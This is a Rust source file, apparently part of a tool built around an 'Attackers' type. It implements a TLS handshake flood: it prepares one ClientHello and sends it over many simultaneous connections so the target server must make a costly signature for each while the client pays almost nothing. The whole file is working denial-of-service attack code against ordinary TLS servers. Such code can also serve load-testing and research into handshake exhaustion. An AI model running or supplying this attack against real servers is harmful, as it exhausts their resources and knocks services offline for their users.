//! The beginning of TLS handshakes, which costs the server a signature and the client nothing.

use std::io::{ErrorKind, Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::sync::Arc;
use std::time::Duration;

use anyhow::Result;
use rustls::crypto::ring;
use rustls::{ClientConfig, ClientConnection, RootCertStore};

use super::Attackers;

impl Attackers {
    /// All connections at once: that many signatures are to be made in one go.
    pub(super) fn hellos(&self) -> Result<()> {
        let hello = client_hello(self.target.addr)?;
        let mut sockets = Vec::new();
        while !self.is_over() {
            for _ in 0..self.conns {
                let mut socket = TcpStream::connect(self.target.addr)?;
                socket.set_read_timeout(Some(Duration::from_secs(1)))?;
                socket.write_all(&hello)?;
                sockets.push(socket);
            }
            for mut socket in sockets.drain(..) {
                match socket.read(&mut [0; 1]) {
                    Ok(1) => self.made(1),
                    Ok(_) => {}
                    // The server has ended it, or is busy with others.
                    Err(error) if is_about_the_server(error.kind()) => {}
                    Err(error) => return Err(error.into()),
                }
            }
        }
        Ok(())
    }
}

fn is_about_the_server(kind: ErrorKind) -> bool {
    matches!(
        kind,
        ErrorKind::ConnectionReset | ErrorKind::WouldBlock | ErrorKind::TimedOut
    )
}

/// Always the same: a client can have it ready, and pays nothing for what the server computes.
fn client_hello(addr: SocketAddr) -> Result<Vec<u8>> {
    let config = ClientConfig::builder_with_provider(Arc::new(ring::default_provider()))
        .with_safe_default_protocol_versions()?
        .with_root_certificates(RootCertStore::empty())
        .with_no_client_auth();
    let mut connection = ClientConnection::new(Arc::new(config), addr.ip().into())?;
    let mut hello = Vec::new();
    connection.write_tls(&mut hello)?;
    Ok(hello)
}
